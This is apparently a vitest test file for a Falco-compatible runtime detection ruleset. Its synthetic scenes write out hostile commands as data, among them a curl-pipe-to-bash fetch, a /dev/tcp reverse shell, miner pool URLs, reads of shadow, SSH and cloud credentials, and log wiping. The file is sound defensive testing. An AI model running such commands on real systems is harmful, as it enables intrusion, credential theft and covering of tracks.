/**
 * Tracehound's default ruleset (assets/rules/tracehound_rules.yaml).
 *
 * - It loads like `falco -V` wants it: no error, no warning, every rule documented and tagged
 *   with a MITRE ATT&CK tactic and technique, and it coexists with Falco's own rules files.
 * - Replayed over every shared capture (real recordings), it raises exactly the detections listed
 *   in REAL_CAPTURES, each one checked by hand against sysdig 0.29.3's view of the event, and
 *   nothing else. The false positives tuned out while writing the rules are listed there too.
 * - The demo incident (core/capture/demo) is caught at every step of its story.
 * - Each rule family has a synthetic scene (test/unit/rules/scenes.ts) with the attack and with the
 *   routine activity that looks like it, for the behaviours no shared capture holds.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join, resolve } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeDemoIncidentFile, DEMO } from '../../../core/capture/demo/incident.js';
import type { FieldContext } from '../../../core/inspect/fields/types.js';
import { RulesEngine } from '../../../core/rules/engine.js';
import { replayCapture, type Detection } from '../../../core/rules/replay.js';
import { RegistryResolver } from '../../../core/rules/syscall-resolver.js';
import { runCli } from '../../../main/cli/index.js';
import { CTR, writeScene, type Stage } from './scenes.js';

const RULES_FILE = resolve('assets/rules/tracehound_rules.yaml');
const CAPTURES = resolve('../shared/data/captures');
const FALCO_RULES = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map((f) => resolve('../shared/data/rules', f));

function engine(): RulesEngine<FieldContext> {
  const e = new RulesEngine<FieldContext>({ sources: { syscall: new RegistryResolver() } });
  const r = e.loadRules(readFileSync(RULES_FILE, 'utf8'), RULES_FILE);
  if (!r.successful) throw new Error(r.errors.map((x) => x.message).join('; '));
  return e;
}

async function replay(path: string, ruleMatching: 'first' | 'all' = 'first'): Promise<Detection[]> {
  return (await replayCapture(path, engine(), { ruleMatching })).detections;
}

function counts(ds: readonly Detection[]): Record<string, number> {
  const out: Record<string, number> = {};
  for (const d of ds) out[d.rule] = (out[d.rule] ?? 0) + 1;
  return out;
}

const R = {
  webShell: 'Tracehound - Shell spawned by a web server',
  piped: 'Tracehound - Download piped to a shell',
  revShell: 'Tracehound - Standard stream redirected to a network socket',
  minerExec: 'Tracehound - Crypto miner process executed',
  stratum: 'Tracehound - Stratum mining protocol in command line',
  poolPort: 'Tracehound - Outbound connection to crypto mining pool port',
  tmpExec: 'Tracehound - Binary executed from a temp directory',
  interactive: 'Tracehound - Interactive shell in container',
  ctrShell: 'Tracehound - Shell spawned by a program in a container',
  download: 'Tracehound - Download tool wrote to a temp directory',
  chmodTmp: 'Tracehound - Execute permission set on a file in a temp directory',
  pkg: 'Tracehound - Package manager run in container',
  shadow: 'Tracehound - Password or sudoers file read',
  creds: 'Tracehound - Private key or cloud credential read by a shell tool',
  binDir: 'Tracehound - Write below a binary directory',
  preload: 'Tracehound - Dynamic linker preload file written',
  etc: 'Tracehound - Write below etc',
  history: 'Tracehound - Shell history cleared',
  histOff: 'Tracehound - Shell started with history disabled',
  logs: 'Tracehound - Log file truncated or deleted',
  toRoot: 'Tracehound - Non-root process set its user or group to root',
  setns: 'Tracehound - Process entered another namespace',
  unshare: 'Tracehound - Process created new namespaces',
  nsTool: 'Tracehound - Unshare tool run in container',
  caps: 'Tracehound - Process raised dangerous capabilities',
  webOut: 'Tracehound - Outbound connection from a web server',
} as const;

describe('the ruleset file', () => {
  const e = new RulesEngine<FieldContext>({ sources: { syscall: new RegistryResolver() } });
  const result = e.loadRules(readFileSync(RULES_FILE, 'utf8'), RULES_FILE);

  it('loads with zero errors and zero warnings', () => {
    expect(result.errors.map((x) => `${x.code} ${x.itemName}: ${x.message}`)).toEqual([]);
    expect(result.warnings.map((x) => `${x.code} ${x.itemName}: ${x.message}`)).toEqual([]);
  });

  it('has the rules named above, each documented, tagged with ATT&CK and bound to event types', () => {
    expect(e.rules.map((r) => r.name).sort()).toEqual(Object.values(R).sort());
    for (const r of e.rules) {
      expect(r.description.length, r.name).toBeGreaterThan(60);
      expect(r.tags.filter((t) => /^mitre_[a-z_]+$/.test(t)).length, `${r.name} tactic`).toBeGreaterThan(0);
      expect(r.tags.filter((t) => /^T\d{4}(\.\d{3})?$/.test(t)).length, `${r.name} technique`).toBeGreaterThan(0);
      expect(r.eventNames, r.name).not.toBe('all');
      expect(r.output.fieldNames, r.name).toEqual(expect.arrayContaining(['proc.name', 'proc.cmdline', 'user.name', 'container.name', 'container.image']));
    }
  });

  it('validates with `tracehound rules --validate`', async () => {
    const stdout = new PassThrough();
    let out = '';
    stdout.on('data', (c) => (out += c));
    const code = await runCli(['rules', '--validate', RULES_FILE], { stdout, stderr: new PassThrough(), cwd: process.cwd(), signal: new AbortController().signal });
    expect(code).toBe(0);
    expect(out).toBe(`${RULES_FILE}: Ok\n`);
  });

  it("loads next to Falco's own rules files without replacing their lists or macros", () => {
    const both = new RulesEngine<FieldContext>({ sources: { syscall: new RegistryResolver() } });
    const results = [...FALCO_RULES, RULES_FILE].map((f) => both.loadRules(readFileSync(f, 'utf8'), f));
    expect(results.flatMap((r) => r.errors).map((x) => x.message)).toEqual([]);
    expect(results.at(-1)!.warnings.map((x) => x.message)).toEqual([]);
    const text = readFileSync(RULES_FILE, 'utf8');
    const names = [...text.matchAll(/^- (list|macro): (\S+)/gm)].map((m) => m[2]!);
    expect(names.filter((n) => !n.startsWith('th_'))).toEqual([]);
  });
});

/**
 * What the rules raise on the shared captures (first match per event, Falco's default). Every
 * detection was checked with `TZ=UTC sysdig -r CAPTURE -p '%evt.num %evt.dir %proc.name
 * %proc.cmdline %evt.type %fd.name %evt.args %user.name' 'evt.num=N'`:
 * - sysflow_namespaces_setns #2993: `sudo nsenter --pid=/tmp/ns/pid -- /bin/bash` returns from
 *   setns(3 -> /tmp/ns/pid, CLONE_NEWPID) with res=0: a host process joins another pid namespace.
 * - sysflow_setuid_setuid #947: the test program, running as terylt (uid 500), calls setuid(0);
 *   the kernel answers EPERM (#948). A failed escalation attempt is still the behaviour.
 *
 * False positives removed while tuning, with the capture that showed them:
 * - inspect_502error: 49 connects of haproxy (a proxy, in the web server list for the shell rule)
 *   to its backend 192.168.0.2:80: private (RFC 1918) peers are not "outbound".
 * - sysflow_namespaces_setns: sudo's setresuid/setresgid to 0 (15 calls) and its reads of
 *   /etc/sudoers and /etc/sudoers.d/* (3): sudo is made for that (th_setuid_binaries, th_auth_binaries).
 * - sysflow_mpm-event_full_capture: runc:[0:PARENT]'s unshare and runc:[1:CHILD]/httpd's
 *   setuid/setgid(0) while starting the container (runtime processes; and they run as root).
 * - sysflow_objectstore_download: `sh -c /usr/bin/healthcheck.sh` in the minio container, started
 *   by the runtime for the image's HEALTHCHECK (its parent is not in the capture): shells whose
 *   parent is unknown, a runtime or a shell are not reported as "spawned by a program".
 * - every capture with enter events: the enter of an execve still carries the old process name
 *   (bash forks, the child is "bash" until the exec returns), so rules test the exit only
 *   (evt.rawres, fd.num >= 0) instead of evt.dir, which Falco >= 0.41 warns about.
 */
const REAL_CAPTURES: Record<string, { rule: string; evtNum: number; proc: string }[]> = {
  'sysflow_namespaces_setns.scap': [{ rule: R.setns, evtNum: 2993, proc: 'nsenter' }],
  'sysflow_setuid_setuid.scap': [{ rule: R.toRoot, evtNum: 947, proc: 'setuid' }],
};

describe('the shared captures', () => {
  const files = readdirCaptures();

  it('are all here', () => {
    expect(files.length).toBe(26);
  });

  for (const f of files) {
    const want = REAL_CAPTURES[basename(f)] ?? [];
    it(`${basename(f)}: ${want.length ? want.map((w) => `${w.rule} #${w.evtNum}`).join(', ') : 'nothing'}`, async () => {
      const got = await replay(f);
      expect(got.map((d) => ({ rule: d.rule, evtNum: d.evtNum, proc: d.fields['proc.name'] }))).toEqual(want);
    });
  }
});

function readdirCaptures(): string[] {
  return readdirSync(CAPTURES).filter((f) => f.endsWith('.scap')).sort().map((f) => join(CAPTURES, f));
}

describe('the demo incident', () => {
  const tmp = mkdtempSync(join(tmpdir(), 'th-rules-demo-'));
  const file = join(tmp, 'demo-incident.scap');
  beforeAll(() => {
    writeDemoIncidentFile(file);
  });
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));

  it('is caught at every step, one alert per event', async () => {
    const got = await replay(file);
    const line = (d: Detection): string => `${d.rule} | ${d.fields['proc.name']} | ${d.fields['container.name']}`;
    expect(got.map(line)).toEqual([
      `${R.webShell} | sh | ${DEMO.containerName}`,
      `${R.shadow} | cat | ${DEMO.containerName}`,
      `${R.download} | curl | ${DEMO.containerName}`,
      `${R.chmodTmp} | chmod | ${DEMO.containerName}`,
      `${R.minerExec} | xmrig | ${DEMO.containerName}`,
      `${R.poolPort} | xmrig | ${DEMO.containerName}`,
    ]);
    expect(got[0]!.fields['proc.pname']).toBe('nginx');
    expect(got[1]!.fields['fd.name']).toBe('/etc/shadow');
    expect(got[2]!.fields['fd.name']).toBe(DEMO.minerPath);
    expect(got[5]!.fields['fd.sport']).toBe(String(DEMO.poolPort));
  });

  it('matches the narrower rules too when every match is reported', async () => {
    const all = counts(await replay(file, 'all'));
    expect(all).toEqual({
      [R.webShell]: 1,
      [R.ctrShell]: 1, // the same sh: nginx is an application process of the container
      [R.stratum]: 2, // the sh -c command line and xmrig's own
      [R.shadow]: 1,
      [R.download]: 1,
      [R.chmodTmp]: 1,
      [R.minerExec]: 1,
      [R.tmpExec]: 1, // /tmp/xmrig
      [R.poolPort]: 1,
    });
  });
});

describe('synthetic scenes, one per rule family', () => {
  const tmp = mkdtempSync(join(tmpdir(), 'th-rules-scenes-'));
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));
  let n = 0;
  /** Writes the scene and returns the first-match detections as "rule | proc.name" lines. */
  async function scene(story: (s: Stage) => void): Promise<{ lines: string[]; detections: Detection[] }> {
    const path = join(tmp, `scene-${n++}.scap`);
    writeScene(path, story);
    const detections = await replay(path);
    return { lines: detections.map((d) => `${d.rule} | ${d.fields['proc.name']}`), detections };
  }
  const shell = (comm: string) => ({ comm, exepath: `/usr/bin/${comm}` });

  it('shells spawned by services, piped downloads and reverse shells', async () => {
    const { lines, detections } = await scene((s) => {
      // An uploaded PHP web shell runs a command.
      s.spawn(s.phpFpm, '/bin/sh', ['sh', '-c', 'id; uname -a'], shell('sh'));
      // A script fetched and run in one go on the host.
      s.spawn(s.alice, '/bin/bash', ['bash', '-c', 'curl -fsSL http://203.0.113.9/i.sh | bash'], shell('bash'));
      // The application in the container opens a reverse shell.
      const b = s.spawn(s.app, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4443 0>&1'], shell('bash'));
      const fd = s.connect(b, { ip: CTR.ip, port: 40100 }, { ip: '203.0.113.7', port: 4443 });
      for (const std of [0, 1, 2]) s.dup(b, fd, std);
      // Routine: a shell redirects its own output to a file (dup of a file, not a socket).
      s.dup(s.root, 1, 2);
    });
    expect(lines).toEqual([
      `${R.webShell} | sh`,
      `${R.piped} | bash`,
      `${R.ctrShell} | bash`,
      `${R.revShell} | bash`,
      `${R.revShell} | bash`,
      `${R.revShell} | bash`,
    ]);
    expect(detections[0]!.fields['proc.pname']).toBe('php-fpm8.2');
    expect(detections[3]!.fields['fd.rport']).toBe('4443');
  });

  it('crypto miners: names, stratum URLs and pool ports', async () => {
    const { lines } = await scene((s) => {
      s.spawn(s.app, '/tmp/.cache/minerd', ['minerd', '-a', 'cryptonight'], { comm: 'minerd', exepath: '/tmp/.cache/minerd' });
      s.spawn(s.app, '/usr/local/bin/kworker2', ['kworker2', '-o', 'stratum+tcp://198.51.100.23:3333'], { comm: 'kworker2', exepath: '/usr/local/bin/kworker2' });
      s.connect(s.app, { ip: CTR.ip, port: 40200 }, { ip: '198.51.100.23', port: 3333 });
      // Routine: the app talks to its database and to a local service on a "miner" port.
      s.connect(s.app, { ip: CTR.ip, port: 40201 }, { ip: '10.1.2.3', port: 5432 });
      s.connect(s.app, { ip: '127.0.0.1', port: 40202 }, { ip: '127.0.0.1', port: 5555 });
    });
    expect(lines).toEqual([`${R.minerExec} | minerd`, `${R.stratum} | kworker2`, `${R.poolPort} | node`]);
  });

  it('tool transfer: downloads to temp dirs, chmod +x there, runs from there, package managers', async () => {
    const { lines } = await scene((s) => {
      const w = s.spawn(s.app, '/usr/bin/wget', ['wget', '-q', '-O', '/tmp/p', 'http://203.0.113.9/p'], shell('wget'));
      s.write(w, '/tmp/p');
      const c = s.spawn(s.app, '/bin/chmod', ['chmod', '+x', '/tmp/p'], shell('chmod'));
      s.sim.fchmodat(c, '/tmp/p', 0o755);
      s.spawn(s.alice, '/dev/shm/.x', ['/dev/shm/.x'], { comm: '.x', exepath: '/dev/shm/.x' });
      s.spawn(s.app, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'nmap'], shell('apt-get'));
      s.spawn(s.app, '/usr/local/bin/pip', ['pip', 'install', 'requests'], { comm: 'pip', exepath: '/usr/local/bin/pip' });
      // Routine: chmod 644 in /tmp, wget into the home dir, pip listing packages, apt-get on the host.
      const c2 = s.spawn(s.alice, '/bin/chmod', ['chmod', '644', '/tmp/notes'], shell('chmod'));
      s.sim.fchmodat(c2, '/tmp/notes', 0o644);
      const w2 = s.spawn(s.alice, '/usr/bin/wget', ['wget', 'https://example.org/f.tgz'], shell('wget'));
      s.write(w2, '/home/alice/f.tgz');
      s.spawn(s.app, '/usr/local/bin/pip', ['pip', 'list'], { comm: 'pip', exepath: '/usr/local/bin/pip' });
      s.spawn(s.root, '/usr/bin/apt-get', ['apt-get', 'upgrade'], shell('apt-get'));
    });
    expect(lines).toEqual([
      `${R.download} | wget`,
      `${R.chmodTmp} | chmod`,
      `${R.tmpExec} | .x`,
      `${R.pkg} | apt-get`,
      `${R.pkg} | pip`,
    ]);
  });

  it('shells in containers: interactive sessions and shells started by the application', async () => {
    const { lines } = await scene((s) => {
      // kubectl exec -it: the runtime starts a shell with a terminal.
      s.spawn(s.shim, '/bin/sh', ['sh'], { ...shell('sh'), tty: 34816, container: true });
      // Routine: the runtime runs a health check through sh -c, without a terminal.
      s.spawn(s.shim, '/bin/sh', ['sh', '-c', 'curl -fs localhost:3000/health'], { ...shell('sh'), container: true });
    });
    expect(lines).toEqual([`${R.interactive} | sh`]);
  });

  it('credential access: account secrets, keys, cloud credentials, service-account tokens', async () => {
    const { lines, detections } = await scene((s) => {
      s.read(s.spawn(s.nginx, '/bin/cat', ['cat', '/etc/shadow'], shell('cat')), '/etc/shadow');
      s.read(s.spawn(s.alice, '/bin/grep', ['grep', 'NOPASSWD', '/etc/sudoers'], shell('grep')), '/etc/sudoers');
      s.read(s.spawn(s.root, '/bin/cat', ['cat', '/root/.ssh/id_ed25519'], shell('cat')), '/root/.ssh/id_ed25519');
      s.read(s.spawn(s.alice, '/bin/cp', ['cp', '/home/alice/.aws/credentials', '/tmp/c'], shell('cp')), '/home/alice/.aws/credentials');
      s.read(s.spawn(s.app, '/bin/cat', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], shell('cat')), '/var/run/secrets/kubernetes.io/serviceaccount/token');
      // Routine: sudo reads sudoers and shadow, the app reads its own token, ssh reads its key.
      const sudo = s.spawn(s.alice, '/usr/bin/sudo', ['sudo', 'ls'], shell('sudo'));
      s.read(sudo, '/etc/sudoers');
      s.read(sudo, '/etc/shadow');
      s.read(s.app, '/var/run/secrets/kubernetes.io/serviceaccount/token');
      s.read(s.spawn(s.alice, '/usr/bin/ssh', ['ssh', 'git@example.org'], shell('ssh')), '/home/alice/.ssh/id_ed25519');
    });
    expect(lines).toEqual([
      `${R.shadow} | cat`,
      `${R.shadow} | grep`,
      `${R.creds} | cat`,
      `${R.creds} | cp`,
      `${R.creds} | cat`,
    ]);
    expect(detections.map((d) => d.fields['fd.name'])).toEqual([
      '/etc/shadow',
      '/etc/sudoers',
      '/root/.ssh/id_ed25519',
      '/home/alice/.aws/credentials',
      '/var/run/secrets/kubernetes.io/serviceaccount/token',
    ]);
  });

  it('persistence: binaries replaced, accounts and preloads written below /etc', async () => {
    const { lines, detections } = await scene((s) => {
      s.write(s.spawn(s.root, '/bin/cp', ['cp', '/tmp/k', '/usr/local/bin/kworker'], shell('cp')), '/usr/local/bin/kworker');
      s.write(s.root, '/etc/passwd', 'append');
      s.write(s.root, '/etc/ld.so.preload');
      s.write(s.root, '/etc/cron.d/sync');
      // Routine: dpkg unpacking a package, ldconfig refreshing its cache, the user editing ~/.bashrc.
      s.write(s.spawn(s.root, '/usr/bin/dpkg', ['dpkg', '-i', 'vim.deb'], shell('dpkg')), '/usr/bin/vim.basic.dpkg-new');
      s.write(s.spawn(s.root, '/sbin/ldconfig', ['ldconfig'], { comm: 'ldconfig', exepath: '/sbin/ldconfig' }), '/etc/ld.so.cache~');
      s.write(s.alice, '/home/alice/.bashrc', 'append');
    });
    expect(lines).toEqual([`${R.binDir} | cp`, `${R.etc} | bash`, `${R.preload} | bash`, `${R.etc} | bash`]);
    expect(detections.map((d) => d.fields['fd.name'])).toEqual(['/usr/local/bin/kworker', '/etc/passwd', '/etc/ld.so.preload', '/etc/cron.d/sync']);
  });

  it('defense evasion: logs and shell history', async () => {
    const { lines } = await scene((s) => {
      s.unlink(s.spawn(s.root, '/bin/rm', ['rm', '-f', '/var/log/auth.log'], shell('rm')), '/var/log/auth.log');
      s.write(s.root, '/var/log/syslog'); // `> /var/log/syslog`
      s.unlink(s.spawn(s.root, '/bin/rm', ['rm', '/root/.bash_history'], shell('rm')), '/root/.bash_history');
      s.write(s.alice, '/home/alice/.bash_history'); // `cat /dev/null > ~/.bash_history`
      s.spawn(s.sshd, '/bin/bash', ['bash'], { ...shell('bash'), env: ['HOME=/root', 'HISTFILE=/dev/null'] });
      // Routine: logrotate rotates, the shell appends its history, rsyslog reopens its log.
      const lr = s.spawn(s.root, '/usr/sbin/logrotate', ['logrotate', '/etc/logrotate.conf'], { comm: 'logrotate', exepath: '/usr/sbin/logrotate' });
      s.rename(lr, '/var/log/syslog', '/var/log/syslog.1');
      s.unlink(lr, '/var/log/syslog.7.gz');
      s.write(s.alice, '/home/alice/.bash_history', 'append');
    });
    expect(lines).toEqual([`${R.logs} | rm`, `${R.logs} | bash`, `${R.history} | rm`, `${R.history} | bash`, `${R.histOff} | bash`]);
  });

  it('privilege escalation: root ids, namespaces, capabilities', async () => {
    const { lines } = await scene((s) => {
      const x = s.spawn(s.alice, '/home/alice/exp', ['./exp'], { comm: 'exp', exepath: '/home/alice/exp' });
      s.call(x, 'SYSCALL_SETRESUID', { ruid: 0, euid: 0, suid: 0 }, { res: 0, ruid: 0, euid: 0, suid: 0 });
      const y = s.spawn(s.alice, '/home/alice/exp2', ['./exp2'], { comm: 'exp2', exepath: '/home/alice/exp2' });
      s.call(y, 'SYSCALL_UNSHARE', { flags: ['CLONE_NEWUSER', 'CLONE_NEWNS'] }, { res: 0, flags: ['CLONE_NEWUSER', 'CLONE_NEWNS'] });
      s.capset(y, 1n << 21n); // CAP_SYS_ADMIN
      const ns = s.spawn(s.app, '/usr/bin/nsenter', ['nsenter', '-t', '1', '-m', '-u', '-n', '-i', 'sh'], shell('nsenter'));
      const fd = s.sim.openat(ns, '/proc/1/ns/mnt', ['O_RDONLY']);
      s.call(ns, 'SYSCALL_SETNS', { fd, nstype: ['CLONE_NEWNS'] }, { res: 0, fd, nstype: ['CLONE_NEWNS'] });
      // Routine: sudo becoming root, a root daemon dropping to nobody, ping keeping CAP_NET_RAW.
      const sudo = s.spawn(s.alice, '/usr/bin/sudo', ['sudo', 'id'], shell('sudo'));
      s.call(sudo, 'SYSCALL_SETRESUID', { ruid: 0, euid: 0, suid: 0 }, { res: 0, ruid: 0, euid: 0, suid: 0 });
      const d = s.spawn(s.root, '/usr/sbin/chronyd', ['chronyd'], { comm: 'chronyd', exepath: '/usr/sbin/chronyd' });
      s.call(d, 'SYSCALL_SETRESUID', { ruid: 65534, euid: 65534, suid: 65534 }, { res: 0, ruid: 65534, euid: 65534, suid: 65534 });
      s.capset(s.spawn(s.alice, '/bin/ping', ['ping', '10.0.0.1'], shell('ping')), 1n << 13n);
    });
    expect(lines).toEqual([
      `${R.toRoot} | exp`,
      `${R.unshare} | exp2`,
      `${R.caps} | exp2`,
      `${R.nsTool} | nsenter`,
      `${R.setns} | nsenter`,
    ]);
  });

  it('outbound connections from web servers', async () => {
    const { lines, detections } = await scene((s) => {
      s.connect(s.nginx, { ip: CTR.ip, port: 40300 }, { ip: '198.51.100.77', port: 443 });
      // Routine: nginx proxying to a backend on the private network, and to a local upstream.
      s.connect(s.nginx, { ip: CTR.ip, port: 40301 }, { ip: '10.0.0.5', port: 8080 });
      s.connect(s.nginx, { ip: '127.0.0.1', port: 40302 }, { ip: '127.0.0.1', port: 9000 });
    });
    expect(lines).toEqual([`${R.webOut} | nginx`]);
    expect(detections[0]!.fields['fd.sip']).toBe('198.51.100.77');
  });
});
